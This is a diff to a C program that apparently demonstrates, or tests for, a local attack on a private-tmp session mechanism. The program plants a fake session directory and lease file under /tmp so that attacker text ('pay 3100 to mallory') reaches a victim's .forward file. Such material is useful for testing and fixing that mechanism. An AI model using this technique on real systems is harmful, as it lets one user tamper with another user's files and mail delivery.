@@ -22,6 +22,7 @@
 #define FORWARD "/mnt/victim/.forward"
 #define MINE "pay 3100 to mallory\n"
 #define PLANTED "/tmp/.privtmp-0123456789abcdefghijkl"
+#define SECRET PLANTED "/0123456789a"
 
 enum { KEPT = 512 };
 
@@ -335,13 +336,13 @@ static void take_over(void)
  */
 static void plant_session(bool with_lease)
 {
-	static const char lease[] = "privtmp 1 0...\nguard " PLANTED "\t/tmp\nsession " PLANTED "\n";
+	static const char lease[] = "privtmp 2\nguard " SECRET "\t/tmp\nsession " PLANTED "\n";
 	int fd;
 
-	if (mkdir(PLANTED, 0700) != 0 || mkdir(PLANTED "/tmp", 0777) != 0 ||
-	    chmod(PLANTED "/tmp", 01777) != 0)
+	if (mkdir(PLANTED, 0700) != 0 || mkdir(SECRET, 0711) != 0 ||
+	    mkdir(SECRET "/tmp", 0777) != 0 || chmod(SECRET "/tmp", 01777) != 0)
 		die(PLANTED);
-	fd = open(PLANTED "/lease", O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+	fd = open(PLANTED "/lease", O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
 	if (fd < 0 || write(fd, lease, sizeof lease - 1) < 0 || flock(fd, LOCK_SH) != 0)
 		die("lease");
 	if (with_lease)
